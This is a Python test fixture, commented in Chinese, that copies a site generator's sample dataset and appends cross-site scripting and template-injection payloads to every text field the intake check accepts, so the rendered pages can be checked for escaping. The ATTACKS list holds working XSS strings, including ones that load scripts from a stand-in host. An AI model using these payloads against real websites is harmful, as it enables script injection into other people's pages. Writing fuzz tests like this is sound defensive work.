"""攻击页的数据：小政协的一份副本，检查放行的每个文字字段后面都接上一段攻击。"""

import csv
import io
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import yaml

from generator.problems import Problem
from generator.register.intake import take_in

ATTACKS = (
    "<script>window.attacked=1;alert(1)</script>",
    '"><img src="http://198.51.100.1/a.png" onerror="window.attacked=1;alert(2)">',
    "'><svg onload=window.attacked=1><script xlink:href='//198.51.100.1/b.js'></script></svg>",
    "</title></style></textarea></script><script src=//198.51.100.1/c.js></script>",
    "javascript:window.attacked=1//",
    "{{ 7*191919 }}{% import os %}${7*191919}<%= 7*191919 %>#{7*191919}",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.attacked=1</x:script>",
    "<iframe srcdoc='<script>parent.attacked=1</script>'></iframe><base href=http://198.51.100.1/>",
    "<a href='javascript:window.attacked=1' autofocus onfocus=window.attacked=1>x</a>--><!--",
    '<meta http-equiv="refresh" content="0;url=http://198.51.100.1/">',
)
EVALUATED = str(7 * 191919)
ROUNDS = 12
TEXTS = (
    *("name", "short_name", "party", "label", "unit", "breakdown", "note", "source_title"),
    *("place", "host"),
)
"""表里写文字的列。"""
PRIVATE = ("memo", "contact", "signer")
"""从不公开的字段；攻击它们看不出什么，另有测试查漏。"""
Leaf = tuple[str | int, ...]


def poison(data: Path) -> Counter[str]:
    """把攻击写进 data 里；返回每个字段名放行了几处。

    先全部写上，检查说哪一行不行就还原那一行，直到没有错误：将来多出的字段也自动受到攻击。
    """
    taken = Counter[str]()
    for path in sorted(data.rglob("*.csv")):
        taken += _poison_table(path)
    files = {
        path: yaml.load(path.read_text("utf-8"), yaml.BaseLoader)  # noqa: S506 - 只读成文字，不造对象
        for path in sorted(data.rglob("*.yml"))
    }
    spared: dict[Path, set[Leaf]] = {path: set() for path in files}
    for _ in range(ROUNDS):
        lines = {path: _write(path, content, spared[path]) for path, content in files.items()}
        errors = [problem for problem in take_in(data)[1] if problem.is_error]
        if not errors:
            for path in files:
                hit = set(lines[path].values()) - spared[path]
                taken.update(
                    str(next(part for part in reversed(leaf) if isinstance(part, str))) for leaf in hit
                )
            return taken
        for problem in errors:
            _spare(problem, data, lines, spared)
    raise AssertionError([(problem.mark, problem.message) for problem in errors[:5]])


def _spare(
    problem: Problem, data: Path, lines: dict[Path, dict[int, Leaf]], spared: dict[Path, set[Leaf]]
) -> None:
    path = data.parent / problem.mark.path
    if path not in lines:
        # 表里的一行对不上，总是因为站点配置里的名目变了。
        path = data / "site.yml"
    leaf = lines[path].get(problem.mark.line)
    if leaf is None or leaf in spared[path]:
        # 标的是别处（例如整条记录，或引用它的另一行）：整个文件的这一轮都还原。
        spared[path].update(lines[path].values())
    else:
        spared[path].add(leaf)


def _write(path: Path, content: Any, spared: set[Leaf]) -> dict[int, Leaf]:
    """写一个文件，一行一个值；返回行号 → 哪个值。"""
    attacked = _attacked(content, (), spared)
    path.write_text(
        yaml.safe_dump(attacked, allow_unicode=True, default_style='"', width=10**9, sort_keys=False), "utf-8"
    )
    return dict(_lines(yaml.compose(path.read_text("utf-8"), yaml.BaseLoader), ()))


def _attacked(value: Any, leaf: Leaf, spared: set[Leaf]) -> Any:
    if isinstance(value, dict):
        return {key: _attacked(inner, (*leaf, key), spared) for key, inner in value.items()}
    if isinstance(value, list):
        return [_attacked(inner, (*leaf, index), spared) for index, inner in enumerate(value)]
    return value if leaf in spared or leaf[-1] in PRIVATE else value + _attack(leaf)


def _attack(leaf: Leaf) -> str:
    return ATTACKS[sum(str(leaf).encode()) % len(ATTACKS)]


def _lines(node: Any, leaf: Leaf) -> Iterator[tuple[int, Leaf]]:
    if isinstance(node, yaml.MappingNode):
        for key, inner in node.value:
            yield from _lines(inner, (*leaf, key.value))
    elif isinstance(node, yaml.SequenceNode):
        for index, inner in enumerate(node.value):
            yield from _lines(inner, (*leaf, index))
    else:
        yield node.start_mark.line + 1, leaf


def _poison_table(path: Path) -> Counter[str]:
    """表里哪些列是文字写在 TEXTS 里；相同的格子受相同的攻击，分组不乱。"""
    header, *rows = csv.reader(io.StringIO(path.read_text("utf-8")))
    attacked = [
        [
            cell + _attack((name, cell)) if name in TEXTS and cell else cell
            for name, cell in zip(header, cells, strict=True)
        ]
        for cells in rows
    ]
    text = io.StringIO()
    csv.writer(text).writerows([header, *attacked])
    path.write_text(text.getvalue(), "utf-8")
    return Counter(f"{path.stem}.{name}" for name in header if name in TEXTS)
